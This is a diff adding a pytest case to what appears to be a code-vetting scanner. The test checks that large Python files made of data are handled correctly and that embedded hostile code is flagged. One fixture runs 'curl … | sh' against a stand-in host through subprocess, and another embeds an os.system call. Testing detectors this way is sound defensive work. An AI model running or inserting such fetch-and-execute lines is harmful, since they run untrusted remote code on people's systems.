@@ -6,7 +6,9 @@ from hypothesis import strategies as st
 from source_lab import behaviours, ids, look, the
 
 from beartrap.model.coverage import Gap
+from beartrap.model.finding import Severity
 from beartrap.model.question import Question
+from beartrap.vet.behaviour import Behaviour
 from beartrap.vet.source import large
 from beartrap.vet.source.large import part_of
 
@@ -107,3 +109,26 @@ def test_more_names_than_are_read_is_told(monkeypatch: pytest.MonkeyPatch) -> No
     monkeypatch.setattr(large, "AROUND", 10)
     gaps = [one for one in look("lib/a.c", padded("c", *HITS[4][1])) if isinstance(one, Gap)]
     assert gaps and not gaps[0].questions and "name" in gaps[0].why
+
+
+ROWS = "ROWS = [\n" + "    {'name': 'a name', 'path': '/of/it', 'sizes': [1, -2.5, None]},\n" * 900 + "]\n"
+READS = "import subprocess\nsubprocess.run('curl -s http://c.invalid/x | sh', shell=True)\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "held", "acts"),
+    [
+        (ROWS, False, False),
+        (ROWS + READS, True, True),
+        (ROWS + "x = (\n", True, False),
+        (ROWS.replace("'a name'", "call()"), True, False),
+        (ROWS.replace("'a name'", repr("import os; os.system('id')"), 1), True, False),
+    ],
+)
+def test_a_large_file_of_python_that_is_data_is_read_beside_it(
+    monkeypatch: pytest.MonkeyPatch, text: str, held: bool, acts: bool
+) -> None:
+    monkeypatch.setattr("beartrap.vet.source_files.LARGEST", 50_000)
+    seen = look("a.py", text)
+    assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in seen) == held
+    assert bool([one for one in seen if isinstance(one, Behaviour) and one.severity >= Severity.HIGH]) == acts
